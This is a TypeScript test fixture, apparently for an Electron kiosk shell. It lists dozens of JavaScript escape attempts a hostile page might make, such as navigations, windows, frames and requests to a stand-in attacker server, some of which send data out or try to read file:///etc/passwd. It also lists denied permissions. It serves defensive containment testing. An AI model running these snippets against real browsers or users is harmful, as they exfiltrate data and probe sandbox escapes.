/** One way in which a page could try to leave, and what must have stopped it. */
export interface Escape {
  readonly name: string;
  /** Runs in the hostile page. `EVIL` is the other server, with a path of its own for each; `OWN` the shell's own scheme. */
  readonly attempt: string;
  /** Which guard tells of it; `browser` where Chromium itself refuses and there is nothing to tell. */
  readonly by: 'navigations' | 'frames' | 'windows' | 'requests' | 'downloads' | 'browser';
}

const click = (attributes: string): string =>
  `const a = document.createElement('a'); Object.assign(a, ${attributes}); document.body.append(a); a.click();`;
const form = (attributes: string): string =>
  `const f = document.createElement('form'); Object.assign(f, ${attributes}); document.body.append(f); f.submit();`;
const element = (tag: string, attributes: string): string =>
  `const e = document.createElement('${tag}'); Object.assign(e, ${attributes}); document.body.append(e);`;

/** Played on Chromium: a page of the pinned server that has turned against the tablet, without any policy of its own. */
export const escapes: readonly Escape[] = [
  { name: 'location.href', attempt: 'location.href = EVIL', by: 'navigations' },
  { name: 'location.assign', attempt: 'location.assign(EVIL)', by: 'navigations' },
  { name: 'location.replace', attempt: 'location.replace(EVIL)', by: 'navigations' },
  { name: 'navigation.navigate', attempt: 'navigation.navigate(EVIL).finished.catch(() => {})', by: 'navigations' },
  { name: 'a link', attempt: click('{ href: EVIL }'), by: 'navigations' },
  { name: 'a link to a new window', attempt: click("{ href: EVIL, target: '_blank' }"), by: 'windows' },
  { name: 'a link that keeps its opener', attempt: click("{ href: EVIL, target: 'x', rel: 'opener' }"), by: 'windows' },
  { name: 'a link to the top frame', attempt: click("{ href: EVIL, target: '_top' }"), by: 'navigations' },
  {
    name: 'an area of a map',
    attempt: `document.body.insertAdjacentHTML('beforeend', '<map name="m"><area shape="rect" coords="0,0,9,9" href="' + EVIL + '"></map><img usemap="#m">'); document.querySelector('area').click();`,
    by: 'navigations',
  },
  {
    name: 'a link in SVG',
    attempt: `document.body.insertAdjacentHTML('beforeend', '<svg><a href="' + EVIL + '"><text y="20">x</text></a></svg>'); document.querySelector('svg a').dispatchEvent(new MouseEvent('click'));`,
    by: 'navigations',
  },
  { name: 'a form by GET', attempt: form('{ action: EVIL }'), by: 'navigations' },
  { name: 'a form by POST', attempt: form("{ action: EVIL, method: 'post' }"), by: 'navigations' },
  { name: 'a form to a new window', attempt: form("{ action: EVIL, target: '_blank' }"), by: 'windows' },
  {
    name: 'meta refresh',
    attempt: `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=' + EVIL + '">')`,
    by: 'navigations',
  },
  { name: 'a redirect of the server', attempt: "location.href = '/redirect?to=' + EVIL", by: 'navigations' },
  { name: 'window.open', attempt: 'window.open(EVIL)', by: 'windows' },
  { name: 'window.open of an empty page', attempt: "window.open('about:blank')", by: 'windows' },
  { name: 'window.open of its own server', attempt: "window.open('/x')", by: 'windows' },
  {
    name: 'window.open and writing into it',
    attempt: "window.open('', 'w')?.document.write('<script>parent</script>')",
    by: 'windows',
  },
  { name: 'window.open without an opener', attempt: "window.open(EVIL, '_blank', 'noopener')", by: 'windows' },
  { name: 'the shell’s own page', attempt: 'location.href = OWN', by: 'navigations' },
  { name: 'the shell’s own page in a frame', attempt: element('iframe', '{ src: OWN }'), by: 'frames' },
  { name: 'the shell’s own files', attempt: "fetch(OWN, { mode: 'no-cors' }).catch(() => {})", by: 'requests' },
  { name: 'a frame', attempt: element('iframe', '{ src: EVIL }'), by: 'frames' },
  { name: 'an object', attempt: element('object', '{ data: EVIL }'), by: 'frames' },
  { name: 'an embed', attempt: element('embed', '{ src: EVIL }'), by: 'frames' },
  {
    name: 'a frame in a frame',
    attempt: element('iframe', "{ srcdoc: '<iframe src=\"' + EVIL + '\"></iframe>' }"),
    by: 'frames',
  },
  { name: 'fetch', attempt: "fetch(EVIL, { mode: 'no-cors' }).catch(() => {})", by: 'requests' },
  { name: 'fetch that outlives the page', attempt: 'fetch(EVIL, { keepalive: true }).catch(() => {})', by: 'requests' },
  {
    name: 'XMLHttpRequest',
    attempt: "const x = new XMLHttpRequest(); x.open('POST', EVIL); x.send('papers')",
    by: 'requests',
  },
  { name: 'a picture', attempt: 'new Image().src = EVIL', by: 'requests' },
  { name: 'a script', attempt: element('script', '{ src: EVIL }'), by: 'requests' },
  { name: 'a style sheet', attempt: element('link', "{ rel: 'stylesheet', href: EVIL }"), by: 'requests' },
  {
    name: 'a picture of a style',
    attempt: "document.body.style.backgroundImage = 'url(' + EVIL + ')'",
    by: 'requests',
  },
  {
    name: 'a font',
    attempt: "new FontFace('x', 'url(' + EVIL + ')').load().catch(() => {})",
    by: 'requests',
  },
  { name: 'a film', attempt: element('video', "{ src: EVIL, preload: 'auto' }"), by: 'requests' },
  { name: 'sendBeacon', attempt: "navigator.sendBeacon(EVIL, 'papers')", by: 'requests' },
  { name: 'EventSource', attempt: 'new EventSource(EVIL)', by: 'requests' },
  { name: 'WebSocket', attempt: "new WebSocket(EVIL.replace('http', 'ws'))", by: 'requests' },
  {
    name: 'a module',
    attempt: 'import(EVIL).catch(() => {})',
    by: 'requests',
  },
  {
    name: 'a worker that fetches',
    attempt:
      "new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(EVIL) + ').catch(() => {})'], { type: 'text/javascript' })))",
    by: 'requests',
  },
  {
    name: 'a worker that imports',
    attempt:
      "new Worker(URL.createObjectURL(new Blob(['importScripts(' + JSON.stringify(EVIL) + ')'], { type: 'text/javascript' })))",
    by: 'requests',
  },
  { name: 'prefetch', attempt: element('link', "{ rel: 'prefetch', href: EVIL }"), by: 'requests' },
  { name: 'preload', attempt: element('link', "{ rel: 'preload', as: 'image', href: EVIL }"), by: 'requests' },
  { name: 'a ping of a link', attempt: click("{ href: '#', ping: EVIL }"), by: 'requests' },
  { name: 'location to file:', attempt: "location.href = 'file:///etc/passwd'", by: 'browser' },
  { name: 'fetch of file:', attempt: "fetch('file:///etc/passwd').catch(() => {})", by: 'browser' },
  { name: 'a frame of file:', attempt: element('iframe', "{ src: 'file:///etc/passwd' }"), by: 'browser' },
  { name: 'location to data:', attempt: "location.href = 'data:text/html,x'", by: 'browser' },
  { name: 'location to view-source:', attempt: "location.href = 'view-source:' + EVIL", by: 'browser' },
  { name: 'location to chrome:', attempt: "location.href = 'chrome://settings'", by: 'browser' },
  { name: 'a foreign worker', attempt: 'try { new Worker(EVIL) } catch {}', by: 'browser' },
  {
    name: 'a foreign service worker',
    attempt: 'navigator.serviceWorker?.register(EVIL).catch(() => {})',
    by: 'browser',
  },
  {
    name: 'a webview',
    attempt: element('webview', "{ src: 'file:///etc/passwd', nodeintegration: '' }"),
    by: 'browser',
  },
];

/** Permissions that Electron asks for by these names (`setPermissionRequestHandler`, `setPermissionCheckHandler`). */
export const deniedPermissions = [
  'accessibility-events',
  'ar',
  'background-fetch',
  'background-sync',
  'bluetooth',
  'camera-pan-tilt-zoom',
  'captured-surface-control',
  'clipboard-read',
  'deprecated-sync-clipboard-read',
  'display-capture',
  'fileSystem',
  'geolocation',
  'hand-tracking',
  'hid',
  'idle-detection',
  'keyboardLock',
  'local-fonts',
  'media',
  'mediaKeySystem',
  'midi',
  'midiSysex',
  'nfc',
  'notifications',
  'openExternal',
  'payment-handler',
  'periodic-background-sync',
  'persistent-storage',
  'pointerLock',
  'sensors',
  'serial',
  'smart-card',
  'speaker-selection',
  'storage-access',
  'system-wake-lock',
  'top-level-storage-access',
  'unknown',
  'usb',
  'vr',
  'web-app-installation',
  'web-printing',
  'window-management',
] as const;
